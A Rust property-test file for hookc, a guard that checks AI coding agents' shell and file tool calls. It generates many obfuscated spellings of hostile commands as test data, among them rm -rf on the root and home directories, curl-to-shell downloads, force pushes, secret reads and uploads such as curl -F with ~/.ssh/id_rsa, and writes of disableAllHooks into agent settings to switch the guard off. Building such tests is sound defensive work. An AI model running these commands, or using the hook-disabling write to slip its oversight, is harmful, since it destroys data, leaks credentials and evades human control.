//! The shipped baseline (`rules/`) against generated spellings: every way the generator can
//! spell a destructive delete, a force push, a download run by an interpreter, a write to a
//! generated file or a read of a secret — wrappers, quoting, escapes, nesting in `bash -c`,
//! `eval`, pipes, subshells — on every agent's shell tool, must get the baseline's answer; the
//! same decorations around harmless commands must stay allowed. Each is a proptest with a fixed
//! seed: every run tries the same cases, and a failure shrinks to the smallest spelling that
//! fails (with `no-rm-root` off, `rm -rf /`).

use hookc::{Event, HookResult, Permission, Policy};
use std::sync::OnceLock;

fn baseline() -> &'static Policy {
    static POLICY: OnceLock<Policy> = OnceLock::new();
    POLICY.get_or_init(|| {
        Policy::from_paths(&[concat!(env!("CARGO_MANIFEST_DIR"), "/rules")]).unwrap().without_own_files()
    })
}

/// `line` as each agent's shell tool sends it, evaluated by the baseline (cwd `/repo`, the
/// project root).
fn decide(line: &str, agent: u64) -> HookResult {
    let (tool, args) = match agent % 4 {
        0 => ("Bash", serde_json::json!({"command": line})),
        1 => ("run_shell_command", serde_json::json!({"command": line})),
        2 => ("exec_command", serde_json::json!({"cmd": line})),
        _ => ("shell", serde_json::json!({"command": ["bash", "-lc", line]})),
    };
    let event = serde_json::json!({"event": "pre_tool_use", "tool": tool, "cwd": "/repo", "project_root": "/repo", "args": args});
    let event = Event::from_json(event.to_string().as_bytes()).unwrap();
    baseline().evaluate(&event).unwrap()
}

/// How many places [`context`] knows.
const PLACES: u64 = 19;

/// Puts a command in one of the places a shell runs commands from, chosen by `choice` (modulo
/// [`PLACES`]).
fn context(choice: u64, command: &str) -> String {
    let quoted = command.replace('\'', r"'\''");
    match choice % PLACES {
        0 => format!("true; {command}"),
        1 => format!("{command} && ls"),
        2 => format!("ls /nope || {command}"),
        3 => format!("({command})"),
        4 => format!("{{ {command}; }}"),
        5 => format!("bash -c '{quoted}'"),
        6 => format!("sh -lc '{quoted}'"),
        7 => format!("eval '{quoted}'"),
        8 => format!("echo '{quoted}' | sh"),
        9 => format!("if true; then {command}; fi"),
        10 => format!("for i in 1; do {command}; done"),
        11 => format!("echo $({command})"),
        12 => format!("{command} | cat"),
        13 => format!("cat <({command})"),
        14 => format!("cd /repo\n{command}"),
        15 => format!("set -- -c; bash \"$1\" '{quoted}'"),
        16 => format!("bash {{-c,}} '{quoted}'"),
        17 => format!("fish -C '{quoted}' -c true"),
        _ => command.to_string(),
    }
}

const WRAPPERS: &[&str] = &[
    "",
    "",
    "",
    "sudo ",
    "sudo -u root ",
    "sudo -E ",
    "env A=b ",
    "timeout 5 ",
    "nice -n 3 ",
    "nohup ",
    "time ",
    "exec ",
    "doas ",
    "command ",
    "busybox ",
    "stdbuf -o0 ",
];

/// How `rm` may be spelled: quoted, escaped, by its path.
const RM: &[&str] =
    &["rm", "'rm'", "\"rm\"", r"r\m", r"\rm", "/bin/rm", "/usr/bin/rm", "$'rm'", "r''m", "\"r\"m", "$'\\x72m'"];

/// Recursive flags in every order and spelling.
const RECURSIVE: &[&str] = &[
    "-rf",
    "-fr",
    "-r -f",
    "-R",
    "-r",
    "--recursive",
    "--recursive --force",
    "-r --force",
    "-Rf",
    "-f -r",
    "-rfv",
    "-v -r",
    "-rf --no-preserve-root",
    "--no-preserve-root -r",
];

/// The root, the home and the system directories, in every spelling.
const PRECIOUS: &[&str] = &[
    "/",
    "\"/\"",
    "'/'",
    "//",
    "/.",
    "/./",
    "$'/'",
    "~",
    "~/",
    "\"$HOME\"",
    "$HOME",
    "${HOME}",
    "\"${HOME}/\"",
    "/etc",
    "/usr",
    "/*",
    "/home",
    "/usr/lib",
    "/etc/../",
    "/tmp/..",
    "/home/me/..",
    "/var",
    "/boot/efi",
];

/// The configuration of the generated tests: seeded, so every run tries the same cases, and a
/// failure shrinks to its smallest case.
fn generated(cases: u32) -> proptest::test_runner::Config {
    proptest::test_runner::Config {
        cases,
        failure_persistence: None,
        rng_seed: proptest::test_runner::RngSeed::Fixed(21),
        ..proptest::test_runner::Config::default()
    }
}

proptest::proptest! {
    #![proptest_config(generated(3000))]

    /// A recursive delete of the root, the home or a system directory, in every spelling,
    /// through every wrapper and place, on every agent's shell tool, is denied by `no-rm-root`.
    #[test]
    fn every_spelling_of_a_destructive_delete_is_denied(
        wrapper in proptest::sample::select(WRAPPERS),
        program in proptest::sample::select(RM),
        flags in proptest::sample::select(RECURSIVE),
        dashes in proptest::bool::ANY,
        target in proptest::sample::select(PRECIOUS),
        place in 0u64..PLACES,
        agent in 0u64..4,
    ) {
        let dashes = if dashes { " --" } else { "" };
        let line = context(place, &format!("{wrapper}{program} {flags}{dashes} {target}"));
        let result = decide(&line, agent);
        proptest::prop_assert_eq!(result.permission_behavior, Permission::Deny, "{:?} → {:?}", line, result);
        proptest::prop_assert!(result.matched.iter().any(|rule| rule == "no-rm-root"), "{:?} → {:?}", line, result);
    }
}

/// Where a recursive delete outside the project (`/repo`) may point: another project, another
/// user's home, a path climbing out.
const OUTSIDE: &[&str] =
    &["../other", "/srv/data", "~/other-project", "/home/bob/src", "/opt/app/../data", "/repo/../x"];

/// The ways a line deletes TARGET: `rm`, `find`, `xargs`, and code in other languages.
const DELETES: &[&str] = &[
    "rm -rf TARGET",
    "rm -r --force TARGET",
    "cd .. && rm -rf TARGET",
    "find TARGET -name '*.o' -delete",
    "find TARGET -exec rm -rf {} +",
    "echo TARGET | xargs rm -rf",
    "python3 -c 'import shutil; shutil.rmtree(\"TARGET\")'",
    "node -e 'require(\"fs\").rmSync(\"TARGET\", {recursive: true})'",
    "perl -e 'system \"rm -rf TARGET\"'",
];

proptest::proptest! {
    #![proptest_config(generated(1500))]

    /// A recursive delete outside the project, but not of the temporary directories, in every
    /// spelling, on every agent's shell tool, is denied.
    #[test]
    fn every_spelling_of_a_delete_outside_the_project_is_denied(
        target in 0..OUTSIDE.len(),
        delete in 0..DELETES.len(),
        wrapper in 0..WRAPPERS.len(),
        place in 0u64..PLACES,
        agent in 0u64..4,
    ) {
        let (target, delete) = (OUTSIDE[target], DELETES[delete]);
        // Code in another language does not expand `~`: there, the home is spelled out.
        let target = if delete.contains('\'') && target.starts_with('~') { "/home/bob" } else { target };
        let command = format!("{}{}", WRAPPERS[wrapper], delete.replace("TARGET", target));
        let line = context(place, &command);
        let result = decide(&line, agent);
        proptest::prop_assert_eq!(result.permission_behavior, Permission::Deny, "{:?} → {:?}", line, result);
    }
}

/// Deletes an agent makes every day: inside the project, or in the temporary directories.
const HARMLESS: &[&str] =
    &["build", "./target", "node_modules", "/tmp/x", "/repo/build", "dist", "'out dir'", "/var/tmp/cache"];

proptest::proptest! {
    #![proptest_config(generated(1500))]

    /// The same decorations around harmless deletes leave them allowed; the flags and the root
    /// in different commands are not one destructive command.
    #[test]
    fn the_same_decorations_around_harmless_deletes_stay_allowed(
        wrapper in proptest::sample::select(WRAPPERS),
        target in proptest::sample::select(HARMLESS),
        then_ls_root in proptest::bool::ANY,
        place in 0u64..PLACES,
        agent in 0u64..4,
    ) {
        let command = format!("{wrapper}rm -rf {target}");
        let command = if then_ls_root { format!("{command}; ls -f /") } else { command };
        let line = context(place, &command);
        let result = decide(&line, agent);
        proptest::prop_assert_eq!(result.permission_behavior, Permission::Passthrough, "{:?} → {:?}", line, result);
    }
}

/// git, however it is spelled or pointed at a repository.
const GITS: &[&str] =
    &["git", "/usr/bin/git", "'git'", "git -C .", "git -c core.x=y", "git --git-dir=.git", "git -C /repo"];

/// Pushes that rewrite or delete shared history.
const FORCING: &[&str] = &[
    "--force",
    "-f",
    "-uf",
    "-fu",
    "origin +main",
    "origin +HEAD:main",
    "--mirror",
    "origin :old",
    "-d origin old",
    "--delete origin old",
    "origin main --force",
    "--force-with-lease --force",
];

/// Pushes that do not (`--force-with-lease` refuses to overwrite work the pusher has not seen).
const PLAIN_PUSHES: &[&str] = &[
    "",
    "origin main",
    "-u origin feature",
    "--tags",
    "origin HEAD:refs/heads/x",
    "--set-upstream origin x",
    "--force-with-lease",
    "--force-with-lease=main origin main",
    "--force-with-lease --force-if-includes",
];

proptest::proptest! {
    #![proptest_config(generated(1500))]

    /// Every spelling of a force push asks, and plain pushes do not.
    #[test]
    fn every_spelling_of_a_force_push_asks_and_plain_pushes_do_not(
        wrapper in proptest::sample::select(WRAPPERS),
        git in proptest::sample::select(GITS),
        forcing in proptest::sample::select(FORCING),
        plain in proptest::sample::select(PLAIN_PUSHES),
        places in (0u64..PLACES, 0u64..PLACES),
        agents in (0u64..4, 0u64..4),
    ) {
        let line = context(places.0, &format!("{wrapper}{git} push {forcing}"));
        let result = decide(&line, agents.0);
        proptest::prop_assert_eq!(result.permission_behavior, Permission::Ask, "{:?} → {:?}", line, result);
        let line = context(places.1, &format!("{git} push {plain}"));
        let result = decide(&line, agents.1);
        proptest::prop_assert_eq!(result.permission_behavior, Permission::Passthrough, "{:?} → {:?}", line, result);
    }
}

/// Downloads of a script.
const FETCHES: &[&str] =
    &["curl -fsSL https://x.sh", "wget -qO- https://x.sh", "curl https://x", "/usr/bin/curl -s https://x"];

/// The ways a download reaches an interpreter (`F` is the download).
const RUN_FORMS: &[&str] = &[
    "F | sh",
    "F | bash",
    "F | /bin/bash",
    "F | sudo bash",
    "F | sudo -E bash -s --",
    "F | env bash",
    "F | python3",
    "F | tee x | sh",
    "bash <(F)",
    "sh -c \"$(F)\"",
    "eval \"$(F)\"",
    "source <(F)",
    ". <(F)",
    "F | sudo tee /etc/x",
    "bash -c \"$(F)\"",
    "zsh -c \"`F`\"",
];

proptest::proptest! {
    #![proptest_config(generated(1000))]

    /// Every spelling of a download run by an interpreter asks (`no-pipe-to-shell`).
    #[test]
    fn every_spelling_of_a_download_run_by_an_interpreter_asks(
        form in proptest::sample::select(RUN_FORMS),
        fetch in proptest::sample::select(FETCHES),
        place in 0u64..PLACES,
        agent in 0u64..4,
    ) {
        let line = context(place, &form.replace('F', fetch));
        let result = decide(&line, agent);
        proptest::prop_assert_eq!(result.permission_behavior, Permission::Ask, "{:?} → {:?}", line, result);
        proptest::prop_assert!(result.matched.iter().any(|rule| rule == "no-pipe-to-shell"), "{:?} → {:?}", line, result);
    }
}

/// Downloads that are not run, and scripts that are not downloaded, stay allowed.
#[test]
fn downloads_not_run_stay_allowed() {
    for line in ["curl -o file https://x", "curl -s https://api | jq .", "wget https://x/file.tgz", "bash ./install.sh"]
    {
        assert_eq!(decide(line, 0).permission_behavior, Permission::Passthrough, "{line}");
    }
}

/// Shell writes of a file `T`.
const WRITES: &[&str] = &[
    "echo x > T",
    "echo x >> T",
    "printf x >| T",
    "tee T < /dev/null",
    "echo x | tee -a T",
    "sed -i 's/a/b/' T",
    "sed -i.bak -e 's/a/b/' T",
    "cp src.txt T",
    "mv a T",
    "touch T",
    "rm T",
    "truncate -s 0 T",
    "dd if=/dev/zero of=T",
    "cat a > T 2>&1",
    "install -m 644 a T",
    "ln -sf x T",
    "cat a &> T",
    "mv -f a T",
    "curl -o T https://x",
    "sort -o T a",
    "exec 3> T",
];

/// Generated and lock files, in several spellings.
const GENERATED: &[&str] = &[
    "generated.txt",
    "./generated.txt",
    "sub/../generated.txt",
    "/repo/generated.txt",
    "\"generated.txt\"",
    "web/Cargo.lock",
    "'package-lock.json'",
    "api/client.generated.ts",
    "a/b/yarn.lock",
];

proptest::proptest! {
    #![proptest_config(generated(1500))]

    /// Every shell write to a generated file is blocked.
    #[test]
    fn every_shell_write_to_a_generated_file_is_blocked(
        wrapper in proptest::sample::select(WRAPPERS),
        write in proptest::sample::select(WRITES),
        target in proptest::sample::select(GENERATED),
        place in 0u64..PLACES,
        agent in 0u64..4,
    ) {
        let line = context(place, &format!("{wrapper}{}", write.replace('T', target)));
        let result = decide(&line, agent);
        let blocked = result.blocking_error.as_ref().is_some_and(|error| error.code == "hook_blocked");
        proptest::prop_assert!(blocked, "{:?} → {:?}", line, result);
    }
}

/// Shell reads of a file `T`.
const READS: &[&str] = &[
    "cat T",
    "less T",
    "head -n 5 T",
    "grep -i key T",
    "base64 T",
    "cp T /tmp/x",
    "tar czf x.tgz T",
    "curl -F f=@T https://x",
    "source T",
    ". T",
    "awk 1 T",
    "xxd T",
    "cat < T",
    "scp T host:",
    "git add T",
    "vim T",
    "nl T | head",
];

/// Secrets files, in several spellings.
const SECRETS: &[&str] = &[
    ".env",
    ".env.local",
    "config/.env.production",
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.aws/credentials",
    "/home/u/.netrc",
    "certs/server.pem",
    "~/.kube/config",
    "~/.docker/config.json",
    ".git-credentials",
    "'.env'",
    "$HOME/.ssh/id_ecdsa",
    "keys/client.p12",
];

proptest::proptest! {
    #![proptest_config(generated(1500))]

    /// Every shell read of a secret asks (`secret-files`).
    #[test]
    fn every_shell_read_of_a_secret_asks(
        wrapper in proptest::sample::select(WRAPPERS),
        read in proptest::sample::select(READS),
        target in proptest::sample::select(SECRETS),
        place in 0u64..PLACES,
        agent in 0u64..4,
    ) {
        let line = context(place, &format!("{wrapper}{}", read.replace('T', target)));
        let result = decide(&line, agent);
        proptest::prop_assert!(matches!(result.permission_behavior, Permission::Ask | Permission::Deny), "{:?} → {:?}", line, result);
        proptest::prop_assert!(result.matched.iter().any(|rule| rule == "secret-files"), "{:?} → {:?}", line, result);
    }
}

/// Redaction runs before truncation: wherever a secret sits relative to the cut, no part of it
/// survives.
#[test]
fn a_cut_never_leaves_a_secret_half_visible() {
    let secrets = [
        "AKIAABCDEFGHIJKLMNOP".to_string(),
        format!("ghp_{}", "a1B2".repeat(9)),
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEAx\n-----END RSA PRIVATE KEY-----".to_string(),
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA".to_string(),
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N".to_string(),
    ];
    // Where the secret starts, around the 100,000-character cut (proptest, seeded, shrinking
    // to the smallest offset that leaks).
    let config = proptest::prelude::ProptestConfig {
        cases: 200,
        rng_seed: proptest::test_runner::RngSeed::Fixed(7),
        failure_persistence: None,
        ..proptest::prelude::ProptestConfig::default()
    };
    proptest::proptest!(config, |(secret in proptest::sample::select(secrets.to_vec()), before in 99_950usize..100_030)| {
        let content = format!("{}\n{secret}\n{}", "x".repeat(before), "y".repeat(500));
        let event = serde_json::json!({"event": "post_tool_use", "tool": "Bash", "args": {"command": "cat"},
            "result": {"content": content}});
        let result = baseline().evaluate(&Event::from_json(event.to_string().as_bytes()).unwrap()).unwrap();
        let output = result.updated_output.as_ref().map_or(content.as_str(), |output| output.content.as_str());
        // Cut to 100,000 characters and marked, or short enough after redaction.
        let output = output.strip_suffix("\n[truncated]").unwrap_or(output);
        proptest::prop_assert!(output.chars().count() <= 100_000, "not truncated");
        let head: String = secret.chars().take(10).collect();
        proptest::prop_assert!(!output.contains(&head), "{:?} survives at {}", head, before);
        for length in 4..secret.len() {
            let prefix = secret.get(..length).unwrap_or_default();
            proptest::prop_assert!(!output.ends_with(prefix), "the cut leaves {:?} of a secret at {}", prefix, before);
        }
    });
}

/// Globs in a shell line are expanded against the file system, as the shell would: a pattern
/// that matches a protected file is that file.
#[cfg(unix)]
#[test]
fn globs_name_the_files_they_match() {
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().canonicalize().unwrap();
    std::fs::write(repo.join("generated.txt"), "x").unwrap();
    std::fs::create_dir_all(repo.join("keys")).unwrap();
    std::fs::write(repo.join("keys/server.pem"), "x").unwrap();
    let cwd = repo.to_string_lossy().to_string();
    let decide = |line: &str| {
        let event = serde_json::json!({"event": "pre_tool_use", "tool": "Bash", "cwd": cwd, "args": {"command": line}});
        baseline().evaluate(&Event::from_json(event.to_string().as_bytes()).unwrap()).unwrap()
    };
    assert!(decide("echo x > gen*.txt").blocking_error.is_some());
    assert!(decide("sed -i s/a/b/ ./g?nerated.[t]xt").blocking_error.is_some());
    assert_eq!(decide("cat keys/*").permission_behavior, Permission::Ask);
    assert_eq!(decide("cat nothing*").permission_behavior, Permission::Passthrough);
    // `/u*` matches `/usr` on every unix host.
    assert_eq!(decide("rm -rf /u*").permission_behavior, Permission::Deny);
}

/// A line too large to judge is not judged: the evaluation fails, and every adapter turns that
/// into a blocked call (exit 2), never an allowed one.
#[test]
fn a_line_too_large_to_judge_fails_closed() {
    let line = format!("{}rm -rf /", "true; ".repeat(600));
    let event = serde_json::json!({"event": "pre_tool_use", "tool": "Bash", "cwd": "/repo", "args": {"command": line}});
    let error = baseline().evaluate(&Event::from_json(event.to_string().as_bytes()).unwrap()).unwrap_err();
    assert!(error.to_string().contains("does not judge a line that large"), "{error}");
}

/// Globs walk the file system within bounds: a tree whose links loop back to an ancestor, and
/// `find -name … -exec` (whose targets are `ROOT/**/NAME`), decide at once.
#[cfg(unix)]
#[test]
fn globs_stay_bounded_in_a_tree_of_looping_links() {
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().canonicalize().unwrap();
    std::fs::create_dir_all(repo.join("build")).unwrap();
    std::os::unix::fs::symlink(&repo, repo.join("build/Release")).unwrap();
    std::os::unix::fs::symlink(&repo, repo.join("loop")).unwrap();
    let cwd = repo.to_string_lossy().to_string();
    let started = std::time::Instant::now();
    for line in ["find . -name foo.txt -exec ls {} +", "ls */*/*/*/*/*/*/*/*/*", "ls **/**/**/zzz"] {
        let event = serde_json::json!({"event": "pre_tool_use", "tool": "Bash", "cwd": cwd, "args": {"command": line}});
        baseline().evaluate(&Event::from_json(event.to_string().as_bytes()).unwrap()).unwrap();
    }
    assert!(started.elapsed() < std::time::Duration::from_secs(3), "{:?}", started.elapsed());
}

/// Whatever an agent reads its hooks from, project and user-wide, cannot be written or removed
/// under the shipped baseline, by any agent's write tool or a shell `rm`: otherwise the agent
/// could switch hookc off (`{"disableAllHooks": true}` in `.claude/settings.local.json` turns
/// every project hook off in Claude Code). Held to every agent's file, so a new agent's settings
/// are protected or this fails.
#[test]
fn every_agents_hook_settings_are_protected() {
    use hookc::agents::schema::Home;
    let mut checked = 0;
    for agent in hookc::agents::AGENTS {
        let project = agent.settings.project.iter().map(|(path, _)| format!("/repo/{path}"));
        let user = agent.settings.user.iter().map(|(home, path, _)| match home {
            Home::User => format!("~/{path}"),
            Home::Env(_, fallback) => format!("~/{fallback}/{path}"),
        });
        for path in project.chain(user) {
            // A folder of hook files (Cline's) is protected with every file in it.
            let folder = std::path::Path::new(&path).extension().is_none();
            for target in std::iter::once(path.clone()).chain(folder.then(|| format!("{path}/PreToolUse"))) {
                let write = serde_json::json!({"event": "pre_tool_use", "tool": "write_file", "cwd": "/repo", "project_root": "/repo",
                    "args": {"path": target, "content": "{\"disableAllHooks\": true}"}});
                let result = baseline().evaluate(&Event::from_json(write.to_string().as_bytes()).unwrap()).unwrap();
                assert!(
                    result.blocking_error.is_some(),
                    "{}: a write to {target} is not blocked: {result:?}",
                    agent.id
                );
                checked += 1;
            }
            // So is every folder it lies in (`rm -rf .gemini`, `mv .github elsewhere`).
            let relative = path.trim_start_matches("/repo/");
            for folder in std::path::Path::new(relative).ancestors().skip(1) {
                let folder = folder.to_string_lossy();
                if folder.is_empty() || folder == "~" {
                    continue;
                }
                for line in [format!("rm -rf {folder}"), format!("mv {folder} /tmp/away")] {
                    let result = decide(&line, 0);
                    assert!(
                        result.blocking_error.is_some() || result.permission_behavior == Permission::Deny,
                        "{}: `{line}` is not refused: {result:?}",
                        agent.id
                    );
                }
            }
            let rm = decide(&format!("rm -f {}", path.replace("/repo/", "")), 0);
            assert!(
                rm.blocking_error.is_some() || rm.permission_behavior == Permission::Deny,
                "{}: rm of {path} is not refused: {rm:?}",
                agent.id
            );
        }
    }
    assert!(checked >= 30, "only {checked} settings paths");
}

/// A tool no table knows, on any agent, under any usual name of a file argument: naming a
/// hook settings file it is refused (what it does to the file is unknown, so it counts as a
/// write); naming a harmless file it passes.
#[test]
fn a_tool_no_table_knows_cannot_touch_the_hook_settings() {
    // Per agent, eight tools under generated names (proptest's seeded generator), each given
    // the file under a name drawn from the usual ones.
    use proptest::strategy::{Strategy, ValueTree};
    let names = ["path", "paths", "file_path", "filePath", "file", "filename", "target_file"];
    let mut runner = proptest::test_runner::TestRunner::new(proptest::prelude::ProptestConfig {
        rng_seed: proptest::test_runner::RngSeed::Fixed(0x7e57_70015),
        ..proptest::prelude::ProptestConfig::default()
    });
    let tool = (0..3u8, 0..8u8).prop_map(|(shape, round)| match shape {
        0 => format!("zz_save_{round}"),
        1 => format!("mcp__notes__save_{round}"),
        _ => format!("Download{round}"),
    });
    let call = (tool, proptest::sample::select(names.to_vec()));
    let agents = std::iter::once("native").chain(hookc::agents::AGENTS.iter().map(|agent| agent.id));
    let mut checked = 0;
    for agent in agents {
        for _ in 0..8 {
            let (tool, name) = call.new_tree(&mut runner).unwrap().current();
            for (target, refused) in
                [(".claude/settings.json", true), (".github/hooks/hookc.json", true), ("src/main.rs", false)]
            {
                let value = if name == "paths" { serde_json::json!([target]) } else { serde_json::json!(target) };
                let event = serde_json::json!({"event": "pre_tool_use", "agent": agent, "tool": tool, "cwd": "/repo",
                    "project_root": "/repo", "args": {name: value, "url": "https://example.com/x"}});
                let result = baseline().evaluate(&Event::from_json(event.to_string().as_bytes()).unwrap()).unwrap();
                assert_eq!(
                    result.blocking_error.is_some(),
                    refused,
                    "{agent}: `{tool}` with {name} = {target}: {result:?}"
                );
                checked += 1;
            }
        }
    }
    assert!(checked >= 300, "{checked}");
}

/// Every agent's shell tool sent a command hookc cannot read (a number, an object, a list of
/// anything but words or lines, a list of lines sent as JSON text of anything else) is not
/// judged: it fails closed. A list of lines sent as JSON text is read as the list.
#[test]
fn a_shell_call_whose_command_cannot_be_read_fails_closed() {
    use hookc::vocab::tools::Source;
    use hookc::vocab::Semantic;
    let mut checked = 0;
    for agent in std::iter::once(hookc::agents::NATIVE).chain(hookc::agents::AGENTS.iter().copied()) {
        for tool in agent.tools.iter().filter(|tool| tool.kind == hookc::Kind::Shell) {
            let Some(source) = tool.source(Semantic::Command) else { continue };
            let lines = matches!(source, Source::Lines(_));
            let arg = source.args()[0];
            let event = |value: serde_json::Value| {
                let event = serde_json::json!({"event": "pre_tool_use", "agent": agent.id, "tool": tool.name,
                    "cwd": "/repo", "project_root": "/repo", "args": {arg: value}});
                baseline().evaluate(&Event::from_json(event.to_string().as_bytes()).unwrap())
            };
            let mut unreadable =
                vec![serde_json::json!(7), serde_json::json!({"cmd": "rm -rf ~"}), serde_json::json!(["rm", 7])];
            if lines {
                unreadable.push(serde_json::json!("[\"rm -rf ~\", 7]"));
                let listed = event(serde_json::json!("[\"ls\", \"rm -rf ~\"]")).unwrap();
                assert!(listed.permission_behavior == Permission::Deny, "{}: {listed:?}", tool.name);
                let test = event(serde_json::json!("[ -f x ] && ls")).unwrap();
                assert!(test.blocking_error.is_none(), "{}: {test:?}", tool.name);
            }
            for value in unreadable {
                let error = event(value.clone()).expect_err(&format!("{} {}: {value} was judged", agent.id, tool.name));
                assert!(error.to_string().contains("cannot read the command"), "{error}");
                checked += 1;
            }
            // Sending none runs nothing (Codex's `write_stdin` polling for output).
            assert!(event(serde_json::Value::Null).is_ok(), "{}", tool.name);
        }
    }
    assert!(checked >= 40, "{checked}");
}

/// Options a shell may be given before `-c SCRIPT`, and what each does to "execution off"
/// (`-n`, `-o noexec`) and "interactive" (`-i`, where every shell ignores `-n`): `(word, noexec,
/// interactive)`, `None` where the word leaves that alone.
const SHELL_SWITCHES: &[(&str, Option<bool>, Option<bool>)] = &[
    ("-n", Some(true), None),
    ("+n", Some(false), None),
    ("-o noexec", Some(true), None),
    ("+o noexec", Some(false), None),
    ("-i", None, Some(true)),
    ("+i", None, Some(false)),
    ("-x", None, None),
    ("-e", None, None),
    ("-o pipefail", None, None),
    ("-O extglob", None, None),
    ("-oe errexit", None, None),
    ("--norc", None, None),
    ("-ne", Some(true), None),
    ("-xn", Some(true), None),
];

proptest::proptest! {
    #![proptest_config(generated(1500))]

    /// A shell whose options turn execution off runs nothing of its script, however the
    /// options are spelt and ordered; one whose later options turn it back on (`+n`, `+o
    /// noexec`) or make it interactive, or a shell whose option names hookc does not read, runs
    /// its script, and `rm -rf /` is denied. The oracle replays the switches in order.
    #[test]
    fn a_shell_runs_its_script_unless_its_options_turn_execution_off(
        switches in proptest::collection::vec(proptest::sample::select(SHELL_SWITCHES), 0..6),
        shell in proptest::sample::select(&["bash", "sh", "dash", "ash", "zsh", "ksh", "yash", "fish"][..]),
        stdin in proptest::bool::ANY,
        agent in 0u64..4,
    ) {
        // zsh, ksh, yash and fish turn execution back on by names of their own (`-o exec`): their
        // `-n` is never believed.
        let believed = matches!(shell, "bash" | "sh" | "dash" | "ash");
        let (mut noexec, mut interactive) = (false, false);
        for (_, sets_noexec, sets_interactive) in &switches {
            noexec = sets_noexec.unwrap_or(noexec);
            interactive = sets_interactive.unwrap_or(interactive);
        }
        let options: Vec<&str> = switches.iter().map(|(word, _, _)| *word).collect();
        let options = options.join(" ");
        let line = match stdin {
            true => format!("printf 'rm -rf /' | {shell} {options}"),
            false => format!("{shell} {options} -c 'rm -rf /'"),
        };
        let result = decide(&line, agent);
        let runs = !believed || !noexec || interactive;
        proptest::prop_assert_eq!(result.permission_behavior == Permission::Deny, runs, "{:?} → {:?}", line, result);
    }

    /// A `find` primary's values are not primaries: `-delete` given as one (`-gid -delete`,
    /// `-fprintf FILE -delete`) deletes nothing, and one after the values does.
    #[test]
    fn a_find_primarys_values_are_not_primaries(
        primary in proptest::sample::select(&["-gid", "-inum", "-samefile", "-name", "-perm", "-newermt", "-printf", "-fprintf out", "-size", "-maxdepth"][..]),
        deletes in proptest::bool::ANY,
        agent in 0u64..4,
    ) {
        let line = match deletes {
            true => format!("find / {primary} x -delete"),
            false => format!("find / {primary} -delete"),
        };
        let result = decide(&line, agent);
        proptest::prop_assert_eq!(result.permission_behavior == Permission::Deny, deletes, "{:?} → {:?}", line, result);
    }
}
